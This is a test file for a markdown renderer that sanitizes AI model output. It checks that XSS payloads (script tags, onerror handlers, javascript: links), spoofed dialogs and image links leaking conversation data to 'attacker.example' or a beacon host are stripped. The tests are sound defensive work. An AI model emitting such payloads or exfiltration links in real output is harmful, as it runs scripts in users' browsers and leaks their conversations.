// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { MODEL_OUTPUT_ALLOWED, renderMarkdown } from '../../../src/utils/markdown'
import { SPOOFING_MARKUP, beaconMarkup } from '../../fixtures/hostile-markup'

describe('renderMarkdown', () => {
  it('renders Markdown structure', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n```js\nlet a = 1 < 2\n```\n\n3. three\n\n| a | b |\n|:-|-:|\n| 1 | 2 |')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<code class="language-js">let a = 1 &lt; 2\n</code>')
    expect(html).toContain('<ol start="3">')
    expect(html).toContain('<th align="left">a</th>')
  })

  it.each([
    ['<script>window.pwned = 1</script>', /<script/i],
    ['<img src=x onerror="window.pwned = 1">', /onerror/i],
    ['[click](javascript:window.pwned=1)', /javascript:/i],
    ['<svg><script>window.pwned = 1</script></svg>', /<script/i],
    ['<a href="javascript:alert(1)">x</a>', /javascript:/i],
    ['<iframe src="https://example.com"></iframe>', /<iframe/i],
  ])('removes executable content from %s', (input, forbidden) => {
    expect(renderMarkdown(input)).not.toMatch(forbidden)
  })

  it('shows HTML inside code blocks as text', () => {
    const html = renderMarkdown('```html\n<script>alert(1)</script>\n```')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('opens links in a new tab without an opener', () => {
    expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"')
  })

  it('never loads an image: Markdown images become links, HTML images are removed', () => {
    const html = renderMarkdown('![secret <b>x</b>](https://attacker.example/?q=conversation)\n\n<img src="https://attacker.example/2">')
    expect(html).not.toMatch(/<img/i)
    expect(html).toContain('<a href="https://attacker.example/?q=conversation"')
    expect(html).toContain('[image: secret &lt;b&gt;x&lt;/b&gt;]')
  })
})

const BEACON = 'https://beacon.example/x?c=secret'

function parse(html: string): Element[] {
  const template = document.createElement('template')
  template.innerHTML = html
  return [...template.content.querySelectorAll('*')]
}

/** Every URL-bearing attribute of the HTML spec (tests/fixtures/hostile-markup.ts), in every context. */
describe('untrusted HTML never makes the browser fetch anything (issue 17 item 1)', () => {
  const cases = beaconMarkup(() => BEACON).map(m => [m] as const)

  it.each(cases)('%s keeps no fetching attribute', (input) => {
    // Raw HTML, inside a table (where the parser is most forgiving) and inside a list item.
    for (const source of [input, `<table><tr><td>${input}</td></tr></table>`, `- ${input}`]) {
      const carriers = parse(renderMarkdown(source)).flatMap(el => [...el.attributes]
        .filter(a => a.value.includes('beacon.example'))
        .map(a => `${el.localName}[${a.name}]`))
      // Only a link may point there, and a link is fetched only when the person clicks it.
      expect(carriers.filter(c => c !== 'a[href]')).toEqual([])
    }
  })

  it('keeps only listed attributes on listed elements, whatever the input', () => {
    const everything = beaconMarkup(() => BEACON).join('\n')
    for (const el of parse(renderMarkdown(everything))) {
      expect(Object.keys(MODEL_OUTPUT_ALLOWED)).toContain(el.localName)
      const extra = [...el.attributes].map(a => a.name).filter(n => !MODEL_OUTPUT_ALLOWED[el.localName]!.includes(n) && !(el.localName === 'a' && ['target', 'rel'].includes(n)))
      expect(extra, el.outerHTML).toEqual([])
    }
  })
})

describe('untrusted HTML cannot draw dialogs, popovers, forms or app-looking notices (issue 17 item 6)', () => {
  it.each(SPOOFING_MARKUP)('%s', (input) => {
    const out = parse(renderMarkdown(input))
    expect(out.map(el => el.localName).filter(tag => !(tag in MODEL_OUTPUT_ALLOWED))).toEqual([])
    const attributes = out.flatMap(el => [...el.attributes].map(a => `${el.localName}[${a.name}]`))
    expect(attributes.filter(a => !/^a\[(href|target|rel)\]$/.test(a))).toEqual([])
  })

  it('keeps the code block language class and drops any other class on code', () => {
    expect(renderMarkdown('<code class="language-ts">x</code>')).toContain('class="language-ts"')
    expect(renderMarkdown('<code class="error-notice">x</code>')).not.toContain('class')
    expect(renderMarkdown('<code class="language-ts error-notice">x</code>')).not.toContain('class')
  })

  it('keeps the text of a removed element, so nothing the model wrote is hidden', () => {
    expect(renderMarkdown('<dialog open>Sign in again</dialog>')).toContain('Sign in again')
  })
})

describe('the help guides (trusted, bundled) keep their images', () => {
  it('keeps img src and alt but nothing else', () => {
    const html = renderMarkdown('![shot](images/app.png)\n\n<img src="a.png" srcset="b.png 2x" class="x">', { isOwnGuide: true })
    expect(html).toContain('<img src="images/app.png" alt="shot">')
    expect(html).not.toMatch(/srcset|class/)
  })
})
